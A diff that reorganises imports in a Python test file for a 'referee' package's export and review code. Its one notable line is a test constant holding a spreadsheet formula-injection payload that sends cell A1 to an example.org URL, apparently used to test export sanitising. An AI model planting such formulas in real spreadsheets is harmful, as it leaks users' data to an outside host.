@@ -9,14 +9,14 @@ from pathlib import Path
 
 import pytest
 
-from referee.bundle import read_bundle
-from referee.export import export_csv, export_jsonl
+from referee.files.bundle import read_bundle
+from referee.files.csv_files import Cell, as_shown, write_sheet
+from referee.files.export import export_csv, export_jsonl
 from referee.review import Review
-from referee.review.comparison import write_comparison
-from referee.review.row import RowReader
-from referee.review.tables import write_csv
-from referee.session import Session
-from referee.sheet import Cell, as_shown, write_sheet
+from referee.review.analyst_tables import write_csv
+from referee.review.comparison.comparison import write_comparison
+from referee.review.comparison.comparison_row import RowReader
+from referee.session.session import Session
 from tests.referee.conftest import GAMES
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
